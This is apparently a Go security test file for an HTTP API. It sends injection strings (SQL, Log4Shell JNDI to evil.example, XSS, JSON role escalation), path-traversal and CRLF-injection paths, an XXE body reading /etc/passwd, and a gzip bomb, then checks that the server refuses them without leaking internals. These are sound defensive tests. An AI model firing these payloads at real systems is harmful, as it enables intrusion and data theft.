package httpapi_test

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"strconv"
	"strings"
	"testing"

	"github.com/google/uuid"

	"triprize/internal/job"
	"triprize/internal/testkit/fleet"
)

// insides are words, in lower case, that only we should read: they have no place in
// an answer.
var insides = strings.Split(`goroutine |.go:|runtime error|panic|sqlstate|pgx|strconv.|unmarshal|invalid character|invalid byte|`+
	`unexpected e|parsing |cannot parse|multipart: |buffer size|contents:|net/http|fiber|dial tcp|syntax error|url escape|separator|hex number|crlf at`, "|")

// harmless wants an answer to give nothing away, and a refusal to be a whole problem.
func harmless(t *testing.T, what string, a fleet.Answer) {
	t.Helper()
	switch {
	case a.Err != nil:
		t.Errorf("%s: %v", what, a.Err)
	case a.Status >= 500:
		t.Errorf("%s: %v %s", what, a, a.Body)
	case a.Status >= 400 && len(a.Body) > 0:
		fleet.CheckProblem(t, a)
	}
	lower := bytes.ToLower(a.Body)
	for _, word := range insides {
		if bytes.Contains(lower, []byte(word)) {
			t.Errorf("%s: the answer tells %q: %s", what, word, a.Body)
		}
	}
}

// hostile are texts that mean something to some language; to us they are text.
var hostile = []string{
	`'; DROP TABLE campaigns; --`, `' OR '1'='1`, `\'; TRUNCATE jobs; --`, `") OR ("1"="1`, `$1`, `%s%n%d%v`, `{{7*7}}`, `${jndi:ldap://evil.example/a}`,
	`"},"role":"operator","a":{"b":"`, `<script>alert(1)</script>`, `../../etc/passwd`, `a/b?c=d&e#f`, "\u202e\u2028\ufeff", "🙂", `*`, `\`, `null`, `__proto__`,
}

func TestHostileTextIsTextWhereverItStands(t *testing.T) {
	t.Parallel()
	s := fleet.Shared(t, busy)
	id := s.Campaign(20)
	for _, text := range hostile {
		user := s.User(text)
		body := fleet.CampaignBody(3)
		body["name"] = text
		if made := view(s, s.Post("/v1/campaigns", body), http.StatusCreated); made.Name != text {
			t.Errorf("a campaign %q is %q", text, made.Name)
		}
		wantAnswer(t, "a purchase of "+text, buys(s, "/v1/campaigns/"+id.String(), user, fleet.Fields{"quantity": 1}, fleet.Fields{"method": "external", "reference": text}), job.Succeeded)
		type purchase struct {
			UserID  string `json:"user_id"`
			Payment struct{ Reference string }
		}
		a := s.Read("/v1/users/" + url.PathEscape(user) + "/purchases")
		list := fleet.As[struct{ Purchases []purchase }](t, a).Purchases
		if len(list) != 1 || list[0].UserID != user || list[0].Payment.Reference != text {
			t.Errorf("the purchases of %q: %v %s", text, a, a.Body)
		}
		quoted := url.QueryEscape(text)
		for _, path := range []string{
			"/v1/campaigns/" + url.PathEscape(text), "/v1/campaigns?state=" + quoted, "/v1/campaigns?cursor=" + quoted, "/v1/campaigns?limit=" + quoted,
			"/v1/jobs/" + url.PathEscape(text), "/v1/purchases/" + url.PathEscape(text), "/problems/" + url.PathEscape(text),
			"/v1/campaigns/" + id.String() + "/positions/" + url.PathEscape(text) + "/1",
		} {
			a := s.Do(0, s.Operator, http.MethodGet, path, nil, nil)
			harmless(t, path, a)
			if a.Status != http.StatusBadRequest && a.Status != http.StatusNotFound {
				t.Errorf("%s: %v", path, a)
			}
		}
		if strings.ContainsFunc(text, func(r rune) bool { return r > '~' }) {
			continue
		}
		for _, name := range []string{"Prefer", "If-None-Match", "Last-Event-ID", "X-Request-ID", "X-Forwarded-For", "User-Agent", "Accept", "Cookie", "X-HTTP-Method-Override"} {
			a := s.Do(0, s.App, http.MethodGet, "/v1/campaigns/"+id.String(), map[string]string{name: text}, nil)
			harmless(t, name+": "+text, a)
			if a.Status != http.StatusOK && (name != "If-None-Match" || a.Status != http.StatusNotModified) {
				t.Errorf("%s: %s: %v", name, text, a)
			}
		}
		a = s.Do(0, s.App, http.MethodPost, "/v1/campaigns/"+id.String()+"/publish", map[string]string{"Idempotency-Key": text}, nil)
		if harmless(t, "the key "+text, a); a.Status != http.StatusForbidden {
			t.Errorf("the key %s: %v", text, a)
		}
	}
	wantEqual(t, "purchases", s.Purchases(id), len(hostile))
}

func TestNoSpellingOfAPathLeadsAroundItsGuard(t *testing.T) {
	t.Parallel()
	s := fleet.Shared(t, quiet)
	for _, path := range []string{
		"/v1/../v1/campaigns", "/v1/%2e%2e/v1/campaigns", "/v1/./campaigns", "//v1/campaigns", "/v1//campaigns", "/v1/campaigns//", "/v1/campaigns/", "/v1/campaigns%00",
		"/v1/campaigns%20", "/v1%2fcampaigns", "/v1%5ccampaigns", `/v1\campaigns`, "/v1/campaigns;a=b", "/v1/campaigns.json", "/V1/Campaigns", "/%76%31/campaigns", "/v1/campaigns%",
		"/v1/campaigns/%c0%ae%c0%ae", "/v1/campaigns/%ff", "/v1/users/%ff/purchases", "/v1/users/%c0%ae/purchases", "/v1/users/%ed%a0%80/purchases", "/v1/users/%zz/purchases",
		"/v1/users/%00/purchases", "/v1/users//purchases", "/v1/users/a%0d%0aSet-Cookie:%20a=b/purchases", "/v1/users/" + strings.Repeat("a", 129) + "/purchases",
		"/v1/campaigns?state=", "/v1/campaigns?cursor=", "/v1/campaigns?limit=", "/v1/campaigns?limit=1&limit=2", "/v1/campaigns?limit=007", "/v1/campaigns?limit=%2b5",
		"/v1/campaigns?limit=5%00", "/v1/campaigns?limit=9223372036854775808", "/v1/campaigns?state=active;limit=1", "/v1/campaigns?%zz", "/v1/campaigns?state=%ff",
		"/v1/campaigns?state[]=active&state=active,pending", "/v1/campaigns?cursor=" + strings.Repeat("0", 2000), "/problems/../v1/campaigns", "/problems/%2e%2e%2fv1", "/ASYNQMON", "//asynqmon/api/queues",
		"/%61synqmon", "/asynqmon%2fapi/queues", "/asynqmon;/api/queues", "/asynqmon/../v1/campaigns", "/asynqmon/..%2f..%2fetc/passwd", "/METRICS", "/healthz/..", "*", "campaigns", "/;",
		"http://other.example/asynqmon", "http://user:password@other.example/asynqmon/api/queues",
	} {
		for who, key := range map[string]string{"nobody": "", "an operator": "Authorization: Bearer " + s.Operator + "\r\n"} {
			answers := wire(s, path, "GET "+path+" HTTP/1.1\r\nHost: api\r\n"+key+"\r\n")
			if len(answers) != 1 || answers[0].Status < 400 {
				t.Errorf("%s as %s: %v", path, who, answers)
			}
			for _, a := range answers {
				harmless(t, path, a)
			}
		}
	}
	for _, path := range []string{"/docs/../v1/campaigns", "/docs/%2e%2e/%2e%2e/etc/passwd", "/docs/../asynqmon", "/docs/..%5c..%5cetc/passwd"} { // its files are served by a library
		if answers := wire(s, path, "GET "+path+" HTTP/1.1\r\nHost: api\r\n\r\n"); len(answers) != 1 || answers[0].Status != http.StatusNotFound {
			t.Errorf("%s: %v", path, answers)
		}
	}
}

func TestMethodsThatNobodyExpectsAreProblems(t *testing.T) {
	t.Parallel()
	s := fleet.Shared(t, quiet)
	paths := []string{"/v1/campaigns", "/v1/campaigns/" + uuid.NewString(), "/v1/campaigns/" + uuid.NewString() + "/purchases", "/healthz", "/docs", "/problems", "/openapi.json", "/asynqmon", "/nothing", "*"}
	for _, method := range []string{"OPTIONS", "TRACE", "CONNECT", "PUT", "DELETE", "HEAD", "PATCH", "POST", "PROPFIND", "get", "GETT", "G\x00T", "\x16\x03", "PRI", strings.Repeat("A", 1000)} {
		for _, path := range paths {
			answers := wire(s, method+" "+path, method+" "+path+" HTTP/1.1\r\nHost: api\r\nX-HTTP-Method-Override: GET\r\nContent-Length: 0\r\n\r\n")
			if len(answers) != 1 {
				t.Errorf("%s %s: %d answers", method, path, len(answers))
				continue
			}
			a, public := answers[0], method == "HEAD" && (path == "/healthz" || path == "/docs" || path == "/problems" || path == "/openapi.json")
			harmless(t, method+" "+path, a)
			if (a.Status < 400) != public {
				t.Errorf("%s %s: %v", method, path, a)
			}
			if a.Status == http.StatusMethodNotAllowed && a.Header.Get("Allow") == "" {
				t.Errorf("%s %s: what is allowed stays unsaid: %v", method, path, a.Header)
			}
		}
	}
}

func TestBodiesThatAreTooMuchAreRefusedWithinBoundedMemory(t *testing.T) {
	t.Parallel()
	s := fleet.Start(t, fleet.Options{Binaries: true, Workers: -1, Schedulers: -1})
	const most = 1<<20 - 100 // just within the limit of a body
	fill := func(before, part, after string) string {
		return before + strings.Repeat(part, (most-len(before)-len(after))/len(part)) + after
	}
	var names strings.Builder
	for i := range most / 12 {
		fmt.Fprintf(&names, `"%06x":0,`, i)
	}
	bodies := map[string]string{
		"deep arrays": fill("", "[", ""), "deep and closed": strings.Repeat("[", 9999) + strings.Repeat("]", 9999), "deep objects": strings.Repeat(`{"a":`, 9000) + "1" + strings.Repeat("}", 9000),
		"too deep": strings.Repeat("[", 10001) + strings.Repeat("]", 10001), "deep inside": `{"user_id":` + strings.Repeat("[", 9000) + strings.Repeat("]", 9000) + `,"name":1}`,
		"a long text": fill(`{"user_id":"`, "a", `"}`), "a long name": fill(`{"`, "a", `":1}`), "many names": "{" + strings.TrimSuffix(names.String(), ",") + "}",
		"one name often": fill("{", `"name":1,`, `"name":1}`), "many elements": fill(`{"name":[`, "0,", "0]}"), "many layers": fill(`{"layers":[`, `{},`, `{}]}`),
		"a long number": fill(`{"base_length":`, "9", "}"), "a long fraction": fill(`{"base_length":3.`, "0", "1}"), "a huge number": `{"base_length":1e999999999}`, "a tiny number": `{"base_length":1e-999999999}`,
		"many huge numbers": fill(`{"layers":[`, `{"layer":1e308},`, "0]}"), "many escapes": fill(`{"name":"`, `\u0061`, `"}`), "blanks": fill("", " ", "{}"), "only blanks": fill("", "\n", ""),
	}
	s.Do(0, s.Operator, http.MethodGet, "/v1/campaigns", nil, nil)
	before := peak(t, s.APIs[0].PID())
	for name, body := range bodies {
		for _, path := range []string{"/v1/campaigns", "/v1/campaigns/" + uuid.NewString() + "/purchases"} {
			a := raw(s, http.MethodPost, path, body, "", "")
			status := http.StatusBadRequest
			if path != "/v1/campaigns" && len(body) > 16<<10+64*100 { // a purchase is small
				status = http.StatusRequestEntityTooLarge
			}
			if harmless(t, name, a); a.Status != status || len(a.Body) > 16<<10 {
				t.Errorf("%s to %s: %v, %d bytes", name, path, a, len(a.Body))
			}
		}
	}
	if grown := peak(t, s.APIs[0].PID()) - before; grown > 128<<20 { // nothing is made of a body before its bounds are checked
		t.Errorf("bodies of 1 MB, one after the other, grew the process by %d MB", grown>>20)
	}
	long := strings.Repeat("a", 1<<20)
	for name, head := range map[string]string{
		"a long path": "GET /" + long + " HTTP/1.1\r\nHost: api\r\n", "a long query": "GET /v1/campaigns?cursor=" + long + " HTTP/1.1\r\nHost: api\r\n", "a long method": long + " / HTTP/1.1\r\nHost: api\r\n",
		"a long header": "GET /healthz HTTP/1.1\r\nHost: api\r\nX-Long: " + long + "\r\n", "a long name": "GET /healthz HTTP/1.1\r\nHost: api\r\n" + long + ": a\r\n",
		"many headers": "GET /healthz HTTP/1.1\r\nHost: api\r\n" + strings.Repeat("X-Many: a\r\n", 20_000), "a long key": "GET /v1/campaigns HTTP/1.1\r\nHost: api\r\nAuthorization: Bearer " + long + "\r\n",
	} {
		for _, a := range wire(s, name, head+"\r\n") { // the connection may be closed before all of it is sent, and the answer lost
			if harmless(t, name, a); a.Status != http.StatusRequestHeaderFieldsTooLarge && a.Status != http.StatusBadRequest {
				t.Errorf("%s: %v", name, a)
			}
		}
	}
	wantAnswer(t, "afterwards", s.Do(0, s.Operator, http.MethodGet, "/v1/campaigns", nil, nil), 200)
}

// pack compresses some pieces.
func pack(t *testing.T, times int, piece []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	w, err := gzip.NewWriterLevel(&b, gzip.BestSpeed)
	for range times {
		if err == nil {
			_, err = w.Write(piece)
		}
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestOnlyJSONInUTF8IsRead(t *testing.T) {
	t.Parallel()
	s := fleet.Shared(t, quiet)
	path := "/v1/campaigns/" + s.Campaign(4).String() + "/purchases"
	for media, status := range map[string]int{
		"application/json": 202, "APPLICATION/JSON": 202, "application/json;": 202, `application/json; charset="UTF-8"`: 202, "application/json;charset=utf-8;x=y": 202,
		"application/json; charset=utf-16": 415, "application/json; charset=latin1": 415, "application/json; charset": 415, "application/json; charset=utf-8; charset=utf-16": 415,
		"application/json, text/plain": 415, "application/jsonx": 415, "application/problem+json": 415, "text/json": 415, "text/plain": 415, "json": 415, "*/*": 415, " ": 415, "a/b/c": 415,
		"application/xml": 415, "application/x-www-form-urlencoded": 415, "multipart/form-data": 415, "multipart/form-data; boundary=x": 415, strings.Repeat("a", 3000): 415,
	} {
		a := raw(s, http.MethodPost, path, goodPurchase, "", media)
		if harmless(t, media, a); a.Status != status {
			t.Errorf("%s: want %d, got %v %s", media, status, a, a.Body)
		}
	}
	for name, body := range map[string]string{
		"a byte order mark": "\ufeff" + goodPurchase, "UTF-16": "\xff\xfe{\x00}\x00", "a form": "user_id=a&selection[quantity]=1", "XML": `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`,
		"a comment": goodPurchase + "//", "one quote": strings.ReplaceAll(goodPurchase, `"`, "'"), "a comma too many": strings.Replace(goodPurchase, "}}", ",}}", 1), "NaN": strings.Replace(goodPurchase, ":1", ":NaN", 1),
		"a plus": strings.Replace(goodPurchase, ":1", ":+1", 1), "hex": strings.Replace(goodPurchase, ":1", ":0x1", 1), "another case": strings.Replace(goodPurchase, "user_id", "User_ID", 1),
		"both cases": strings.Replace(goodPurchase, `{"user_id"`, `{"USER_ID":"b","user_id"`, 1), "an escaped twin": strings.Replace(goodPurchase, `{"user_id"`, `{"user\u005fid":"b","user_id"`, 1),
		"__proto__": strings.Replace(goodPurchase, `{"user_id"`, `{"__proto__":{"user_id":"b"},"user_id"`, 1), "null": strings.Replace(goodPurchase, `"a"`, "null", 1), "overlong": strings.Replace(goodPurchase, "a", "\xc0\xaf", 1),
	} {
		a := raw(s, http.MethodPost, path, body, "", "")
		if harmless(t, name, a); a.Status != http.StatusBadRequest || a.Refusal() != "invalid-request" {
			t.Errorf("%s: %v %s", name, a, a.Body)
		}
	}
	for _, moment := range []string{
		"2030-06-30T23:59:60Z", "2030-01-01T00:00:00,5Z", "2030-01-01T00:00:00+24:00", "2030-01-01T24:00:00Z", "2030-02-30T00:00:00Z", "0000-01-01T00:00:00+14:00",
		"9999-12-31T23:59:59-14:00", "2030-01-01T00:00:00", "2030-01-01", "+2030-01-01T00:00:00Z", "infinity", "now", "2030-01-01 00:00:00Z", "20300-01-01T00:00:00Z", "",
	} {
		body := fleet.CampaignBody(3)
		body["sale_ends_at"] = moment
		a := s.Post("/v1/campaigns", body)
		if harmless(t, moment, a); a.Status != http.StatusBadRequest || !fleet.Contains(a.Body, fmt.Sprintf("%q:%q", "pointer", "/sale_ends_at")) {
			t.Errorf("the sale ends at %q: %v %s", moment, a, a.Body)
		}
	}
}

// peak returns the most memory that a process has ever had, in bytes.
func peak(t *testing.T, pid int) int {
	t.Helper()
	data, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/status")
	if err != nil {
		t.Fatal(err)
	}
	_, after, _ := strings.Cut(string(data), "VmHWM:")
	kilobytes, err := strconv.Atoi(strings.Fields(after)[0])
	if err != nil {
		t.Fatal(err)
	}
	return kilobytes << 10
}

func TestCompressedBodiesAreRefusedAndNotUnpacked(t *testing.T) {
	t.Parallel()
	s := fleet.Start(t, fleet.Options{Binaries: true, Workers: -1, Schedulers: -1})
	bomb := pack(t, 128, make([]byte, 1<<20))
	twice := pack(t, 1, bomb) // a few KB
	s.Do(0, s.Operator, http.MethodGet, "/v1/campaigns", nil, nil)
	before := peak(t, s.APIs[0].PID())
	for name, c := range map[string]struct {
		encodings string // one a line
		body      string
		status    int
	}{
		"packed": {"gzip", string(bomb), 415}, "packed twice": {"gzip, gzip", string(twice), 415}, "twice in two lines": {"gzip\ngzip", string(twice), 415},
		"upper case": {"GZIP", string(bomb), 415}, "deflate": {"deflate", string(bomb), 415}, "brotli": {"br", string(bomb), 415}, "unknown": {"x-own", "{}", 415}, "nonsense": {",,;q=0", "{}", 415},
		"first not, then packed": {"identity\ngzip", goodPurchase, 415}, "empty, then packed": {"\ngzip", goodPurchase, 415}, "not, and packed": {"identity, gzip", goodPurchase, 415},
		"not said": {"", string(bomb), 413}, "said not to be": {"identity", string(bomb), 413}, "twice, not said": {"", string(twice), 400}, "as it is": {"identity", goodPurchase, 404},
	} {
		request, err := http.NewRequest(http.MethodPost, s.URLs[0]+"/v1/campaigns/"+uuid.NewString()+"/purchases", strings.NewReader(c.body))
		if err != nil {
			t.Fatal(err)
		}
		request.Header = http.Header{"Authorization": {"Bearer " + s.App}, "Content-Type": {"application/json"}, "Idempotency-Key": {uuid.NewString()},
			"Content-Encoding": strings.Split(c.encodings, "\n")}
		a := s.Send(request)
		if harmless(t, name, a); a.Status != c.status {
			t.Errorf("%s: want %d, got %v %s", name, c.status, a, a.Body)
		}
	}
	if grown := peak(t, s.APIs[0].PID()) - before; grown > 64<<20 {
		t.Errorf("the process has grown by %d MB", grown>>20)
	}
}
